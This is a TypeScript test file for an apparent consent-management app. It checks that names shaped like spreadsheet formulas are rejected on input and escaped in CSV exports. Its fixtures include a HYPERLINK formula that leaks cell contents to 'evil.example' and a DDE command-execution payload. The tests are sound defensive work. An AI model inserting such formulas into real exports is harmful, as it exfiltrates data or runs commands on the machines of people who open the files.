import type { Principal } from "@consentry/auth";
import { count, eq, schema } from "@consentry/db";
import { createTestDatabase } from "@consentry/db/testing";
import { TRPCError } from "@trpc/server";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ZodError } from "zod";
import { callerFor, makeOrganization, makePrincipal } from "./testing";

// Issue #13 point 4: a name that a spreadsheet would run as a formula is refused on input, so it
// never reaches an export (the exports escape what is already stored: packages/core/src/csv.test.ts).

let testDb: Awaited<ReturnType<typeof createTestDatabase>>;
let orgId: string;
let siteId: string;
let manager: Principal;
let admin: Principal;
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const siteFields = {
  name: "Lujiazui Tower",
  address: "100 Century Avenue, Pudong",
  regionCode: "310115",
  kind: "office" as const,
  templateRetentionDays: 180,
};

beforeAll(async () => {
  testDb = await createTestDatabase();
  orgId = (await makeOrganization(testDb.db)).id;
  manager = await makePrincipal(testDb.db, { memberships: [[orgId, "manager"]] });
  admin = await makePrincipal(testDb.db, { platformAdmin: true });
  siteId = (await callerFor(testDb.db, manager).sites.create({ orgId, ...siteFields })).id;
});
afterAll(async () => {
  await testDb?.drop();
});

/** The call is refused as BAD_REQUEST with a `formulaLike` issue on exactly `field`. */
async function expectFormulaRefused(call: Promise<unknown>, field: string) {
  const error = await call.then(
    () => null,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(TRPCError);
  expect((error as TRPCError).code).toBe("BAD_REQUEST");
  const cause = (error as TRPCError).cause;
  expect(cause).toBeInstanceOf(ZodError);
  expect((cause as ZodError).issues.map((issue) => [issue.path.join("."), issue.message])).toEqual([
    [field, "formulaLike"],
  ]);
}

const rows = async (table: typeof schema.sites | typeof schema.entryPoints | typeof schema.signs) =>
  (await testDb.db.select({ value: count() }).from(table))[0]?.value;

describe("names that start like a formula", () => {
  it("are refused for sites, naming the field, and nothing is written", async () => {
    const api = callerFor(testDb.db, manager);
    const before = await rows(schema.sites);
    await expectFormulaRefused(api.sites.create({ orgId, ...siteFields, name: FORMULA }), "name");
    await expectFormulaRefused(api.sites.create({ orgId, ...siteFields, name: "  +1 Tower" }), "name");
    await expectFormulaRefused(api.sites.update({ orgId, siteId, ...siteFields, name: "@SUM(1)" }), "name");
    expect(await rows(schema.sites)).toBe(before);
    expect((await api.sites.byId({ orgId, siteId })).name).toBe(siteFields.name);
    // A dash inside a name is ordinary text.
    await expect(api.sites.update({ orgId, siteId, ...siteFields, name: "Tower - East" })).resolves.toBeDefined();
  });

  it("are refused for entry points and sign locations", async () => {
    const api = callerFor(testDb.db, manager);
    const entryBefore = await rows(schema.entryPoints);
    await expectFormulaRefused(
      api.entryPoints.create({
        orgId,
        siteId,
        name: FORMULA,
        purpose: "entry_verification",
        necessityNote: null,
        faceRecognition: false,
        faceIsDefault: false,
        isPublicPlace: false,
        alternatives: [],
      }),
      "name",
    );
    expect(await rows(schema.entryPoints)).toBe(entryBefore);

    const signsBefore = await rows(schema.signs);
    await expectFormulaRefused(
      api.signs.create({
        orgId,
        siteId,
        location: "-2+3",
        text: "Face recognition in use",
        languages: ["zh-CN"],
        installedAt: new Date(),
        cameraIds: [],
        entryPointIds: [],
      }),
      "location",
    );
    expect(await rows(schema.signs)).toBe(signsBefore);
  });

  it("are refused for organisations", async () => {
    const before = (await testDb.db.select({ value: count() }).from(schema.organizations))[0]?.value;
    await expectFormulaRefused(
      callerFor(testDb.db, admin).admin.createOrganization({ name: FORMULA, slug: "formula-org" }),
      "name",
    );
    expect((await testDb.db.select({ value: count() }).from(schema.organizations))[0]?.value).toBe(before);
  });
});

describe("names stored before the rule", () => {
  it("leave every export as text, never a formula", async () => {
    // As if written before names were checked: straight into the tables.
    await testDb.db.update(schema.sites).set({ name: FORMULA }).where(eq(schema.sites.id, siteId));
    await testDb.db.update(schema.organizations).set({ name: "@org" }).where(eq(schema.organizations.id, orgId));
    await testDb.db.insert(schema.cameras).values({
      orgId,
      siteId,
      name: "+cmd|' /C calc'!A0",
      rtspUrlEnc: "v1.test",
      rtspUrlMasked: "rtsp://127.0.0.1/cam",
      locationType: "entrance",
    });
    const rowsOf = (csv: string) => parse(csv.replace(/^\uFEFF/, ""), { columns: true }) as Record<string, string>[];

    const cameras = await callerFor(testDb.db, manager).cameras.exportCsv({ orgId });
    expect(rowsOf(cameras.csv).map((row) => row.name)).toEqual(["'+cmd|' /C calc'!A0"]);

    const regulator = callerFor(testDb.db, await makePrincipal(testDb.db, { jurisdictionCodes: ["310115"] }));
    const sites = rowsOf((await regulator.regulator.sitesCsv()).csv).filter((row) => row.organisation === "'@org");
    expect(sites.map((row) => row.site)).toEqual([`'${FORMULA}`]);
    const orgs = rowsOf((await regulator.regulator.organizationsCsv()).csv);
    expect(orgs.map((row) => row.organisation)).toContain("'@org");
  });
});
